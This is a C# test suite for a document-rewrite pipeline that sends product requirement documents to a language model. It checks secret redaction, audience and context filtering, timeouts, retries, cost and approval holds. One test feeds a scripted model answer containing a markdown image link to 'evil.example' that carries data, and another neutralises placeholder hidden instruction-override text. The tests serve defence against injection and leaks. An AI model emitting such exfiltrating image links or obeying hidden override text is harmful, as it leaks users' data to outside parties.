using Guildhall.Core;
using Guildhall.Core.Ports;
using Guildhall.Core.Tenancy;
using Guildhall.Onomancer.Personas;
using Guildhall.Onomancer.Rewrites;
using Guildhall.Onomancer.Rewrites.Validating;
using Guildhall.Tests.Kit;
using Guildhall.Tests.Onomancer.Rewrites.Validating;

namespace Guildhall.Tests.Onomancer.Rewrites;

public sealed class RewritePipelineTests : IDisposable
{
    private readonly TempFolder temp = new();
    private readonly ManualTime time = new();

    public void Dispose() => temp.Dispose();

    [Fact]
    public async Task A_prd_reaches_the_model_with_its_structure_and_comes_back_with_its_sections()
    {
        temp.Write("docs/prd.md", Corpus.Read("ferry-prd.md"));
        var model = new ScriptedModel(AnswerBuilder.Good());

        var prepared = await Prepare();
        var rewrite = await Rewrite(prepared, model);

        var prompt = Assert.Single(model.Requests).Prompt;
        Assert.Contains("## 3 Business case\n\n| Item | Year 1 |", prompt, StringComparison.Ordinal);
        Assert.Contains("     - card readers at 14 quays", prompt, StringComparison.Ordinal);
        Assert.Contains("```go\n// Verify returns", prompt, StringComparison.Ordinal);
        Assert.DoesNotContain("owner: Inga", prompt, StringComparison.Ordinal);
        Assert.Equal(Verdict.Accept, rewrite.Verdict);
        Assert.Equal(["p docs/prd.md"], rewrite.SourcesUsed);
        Assert.Equal(1_000 * 3 + 200 * 15, rewrite.CostMicroDollars);
    }

    [Fact]
    public async Task The_key_changes_with_document_audience_model_policy_project_and_indentation_only()
    {
        temp.Write("docs/prd.md", "# A\n\n    code\n");
        var first = (await Prepare()).Key;

        Assert.Equal(first, (await Prepare()).Key);
        Assert.NotEqual(first, (await Prepare(audience: "devrel")).Key);
        Assert.NotEqual(first, (await Prepare(model: "other")).Key);
        Assert.NotEqual(first, (await Prepare(policy: "rules-2")).Key);
        Assert.NotEqual(first, (await Prepare(project: "q")).Key);
        temp.Write("docs/prd.md", "# A\r\n\r\n    code  \r\n");
        Assert.Equal(first, (await Prepare()).Key);
        temp.Write("docs/prd.md", "# A\n\n   code\n");
        Assert.NotEqual(first, (await Prepare()).Key);
    }

    [Fact]
    public async Task A_critical_secret_refuses_the_document_with_its_place_and_without_its_value()
    {
        temp.Write("docs/prd.md", "---\ntitle: T\n---\n# A\r\n\r\nxx CRITICAL-SECRET\r\n");

        var refusal = await Refused();

        Assert.Equal("onomancer.critical_secret", refusal.Code);
        Assert.Contains("pem-key at line 6, column 4", refusal.Message, StringComparison.Ordinal);
        Assert.DoesNotContain("CRITICAL-SECRET", refusal.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Lower_secrets_and_hidden_orders_are_taken_out_and_counted_everywhere()
    {
        temp.Write("docs/prd.md", "# Title LOW-SECRET\n\nText LOW-SECRET and HIDDEN-ORDER, HIDDEN-ORDER.\n");
        var model = new ScriptedModel(AnswerBuilder.Good());

        var prepared = await Prepare();
        var rewrite = await Rewrite(prepared, model);
        var page = SummaryDocument.Compose(prepared, rewrite, time.GetUtcNow());

        Assert.DoesNotContain(
            "LOW-SECRET",
            model.Requests[0].Prompt + page.Markdown + page.Title,
            StringComparison.Ordinal
        );
        Assert.DoesNotContain("HIDDEN-ORDER", model.Requests[0].Prompt, StringComparison.Ordinal);
        Assert.Contains("**Redacted secrets:** 2 × jwt", page.Markdown, StringComparison.Ordinal);
        Assert.Contains(
            "**Neutralised hidden text:** 2 × instruction-override",
            page.Markdown,
            StringComparison.Ordinal
        );
    }

    [Fact]
    public async Task A_wrong_audience_is_refused()
    {
        temp.Write("docs/prd.md", "---\nallowed_audiences: [devrel]\n---\n# A\n\nText.");

        Assert.Equal("onomancer.audience_not_allowed", (await Refused()).Code);
    }

    [Fact]
    public async Task Context_is_taken_from_listed_documents_and_what_is_withheld_is_named_with_the_reason()
    {
        temp.Write(
            "docs/prd.md",
            "---\nsensitivity: internal\ncontext_documents: [sprint.md, secret.md, gone.md, prd.md, docs/key.md, ../out.md, devrel.md]\n---\n# A\n\nText."
        );
        temp.Write("docs/sprint.md", "# Sprint\n\nGoes well, LOW-SECRET.");
        temp.Write("docs/secret.md", "---\nsensitivity: confidential\n---\n# Plan\n\nMerger.");
        temp.Write("docs/devrel.md", "---\nallowed_audiences: [devrel]\n---\n# Dev\n\nDetails.");
        temp.Write("docs/key.md", "CRITICAL-SECRET");

        var prepared = await Prepare();

        Assert.Equal(["p docs/prd.md", "p docs/sprint.md"], prepared.SourcesUsed);
        Assert.Contains("Goes well, [REDACTED: jwt].", prepared.Prompt.Request.Prompt, StringComparison.Ordinal);
        Assert.DoesNotContain("Merger", prepared.Prompt.Request.Prompt, StringComparison.Ordinal);
        Assert.Equal(
            ["too-sensitive", "not-found", "circular", "critical-secret", "not-found", "audience-not-allowed"],
            prepared.SourcesMissing.Select(m => m.Code)
        );
    }

    [Fact]
    public async Task A_remote_source_that_hangs_or_fails_is_named_and_holds_nobody_up()
    {
        temp.Write("docs/prd.md", "# A\n\nText.");
        var sources = new IContextSource[]
        {
            new Scripted("Linear", null),
            new Scripted("GitHub", "broken"),
            new Scripted("Notes", "Known."),
        };

        var pending = Prepare(sources: sources);
        while (time.Waiting == 0)
        {
            await Task.Yield();
        }

        time.Advance(TimeSpan.FromSeconds(5));
        var prepared = await pending;

        Assert.Equal(
            ["Linear: timeout", "GitHub: unavailable"],
            prepared.SourcesMissing.Select(m => $"{m.Name}: {m.Code}")
        );
        Assert.Contains("Known.", prepared.Prompt.Request.Prompt, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_useless_answer_is_asked_for_once_more_with_its_faults()
    {
        temp.Write("docs/prd.md", "# A\n\nText.");
        var model = new ScriptedModel("garbage", AnswerBuilder.Good());

        var rewrite = await Rewrite(await Prepare(), model);

        Assert.Equal(2, rewrite.Questions);
        Assert.Equal(2_000, rewrite.InputTokens);
        Assert.Contains("The section \"Risks\" is missing.", model.Requests[1].Prompt, StringComparison.Ordinal);
        Assert.DoesNotContain("garbage", model.Requests[1].Prompt, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Two_useless_answers_are_a_refusal_with_the_cause()
    {
        temp.Write("docs/prd.md", "# A\n\nText.");
        var model = new ScriptedModel("I'm sorry, but I can't help with that.");

        Assert.False((await Run(await Prepare(), model)).TryGet(out _, out var refusal));

        Assert.Equal("onomancer.model_unusable", refusal.Code);
        Assert.Contains("declines", refusal.Message, StringComparison.Ordinal);
        Assert.Equal(2, model.Requests.Count);
    }

    [Fact]
    public async Task A_leak_is_held_at_once()
    {
        temp.Write("docs/prd.md", "# A\n\nText.");
        var model = new ScriptedModel(AnswerBuilder.Good() + "\n\n![x](https://evil.example/?d=1)");

        var rewrite = await Rewrite(await Prepare(), model);

        Assert.Equal(Verdict.Hold, rewrite.Verdict);
        Assert.Equal("image", rewrite.Holds[0].Kind);
        Assert.Single(model.Requests);
    }

    [Fact]
    public async Task A_document_that_asks_for_approval_is_held()
    {
        temp.Write("docs/prd.md", "---\nrequires_approval: true\n---\n# A\n\nText.");

        var rewrite = await Rewrite(await Prepare(), new ScriptedModel(AnswerBuilder.Good()));

        Assert.Equal("requires-approval", Assert.Single(rewrite.Holds).Kind);
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task Unknown_prices_or_tokens_make_an_unknown_cost(bool hasPrice)
    {
        temp.Write("docs/prd.md", "# A\n\nText.");
        var model = new ScriptedModel(AnswerBuilder.Good())
        {
            Price = hasPrice ? new(3, 15) : null,
            InputTokens = hasPrice ? null : 5,
        };

        Assert.Null((await Rewrite(await Prepare(), model)).CostMicroDollars);
    }

    [Fact]
    public async Task The_offline_extract_runs_through_everything_for_nothing()
    {
        temp.Write("docs/prd.md", Corpus.Read("ferry-prd.md"));
        var prepared = await Prepare(model: OfflineExtract.ModelName);

        var rewrite = await Rewrite(prepared, new OfflineExtract());
        var page = SummaryDocument.Compose(prepared, rewrite, time.GetUtcNow());

        Assert.Equal(Verdict.Accept, rewrite.Verdict);
        Assert.Equal(0, rewrite.CostMicroDollars);
        Assert.StartsWith(
            "# Ferry Pass, product requirements — for Leadership\n",
            page.Markdown,
            StringComparison.Ordinal
        );
        Assert.Contains(
            "- **Model:** none; an extract of the source without a language model (offline-extract-1)",
            page.Markdown,
            StringComparison.Ordinal
        );
        Assert.Contains(
            $"`docs/prd.md`, content `{prepared.ContentHash[..12]}`",
            page.Markdown,
            StringComparison.Ordinal
        );
    }

    private async Task<PreparedRewrite> Prepare(
        string audience = "leadership",
        string model = "scripted-1",
        string policy = "rules-1",
        string project = "p",
        IReadOnlyList<IContextSource>? sources = null
    )
    {
        var result = await Ask(audience, model, policy, project, sources ?? []);
        Assert.True(result.TryGet(out var prepared, out var refusal), refusal?.Message);
        return prepared;
    }

    private async Task<Refusal> Refused()
    {
        Assert.False((await Ask("leadership", "scripted-1", "rules-1", "p", [])).TryGet(out _, out var refusal));
        return refusal;
    }

    private Task<Result<PreparedRewrite>> Ask(
        string audience,
        string model,
        string policy,
        string project,
        IReadOnlyList<IContextSource> sources
    )
    {
        var order = new RewriteOrder
        {
            Tenant = TenantId.Default,
            Documents = new(new() { Name = project, Root = temp.Path }),
            Reference = "@prd",
            Persona = Audiences.Find(audience)!,
        };
        return new RewritePipeline(ScriptedGuards.Make(policy), sources, RewriteSettings.Default, time).PrepareAsync(
            order,
            model,
            TestContext.Current.CancellationToken
        );
    }

    private async Task<Rewrite> Rewrite(PreparedRewrite prepared, ILanguageModel model)
    {
        Assert.True((await Run(prepared, model)).TryGet(out var rewrite, out var refusal), refusal?.Message);
        return rewrite;
    }

    private Task<Result<Rewrite>> Run(PreparedRewrite prepared, ILanguageModel model) =>
        new RewritePipeline(ScriptedGuards.Make(), [], RewriteSettings.Default, time).RewriteAsync(
            prepared,
            model,
            TestContext.Current.CancellationToken
        );

    /// <summary>Null never answers, <c>broken</c> throws, anything else is its one text.</summary>
    private sealed class Scripted(string name, string? text) : IContextSource
    {
        public string Name => name;

        public async Task<IReadOnlyList<PromptSource>> FetchAsync(
            ContextQuestion question,
            CancellationToken cancellation
        )
        {
            if (text is null)
            {
                await new TaskCompletionSource().Task;
            }

            return text == "broken" ? throw new HttpRequestException("500") : [new(name, text!)];
        }
    }
}
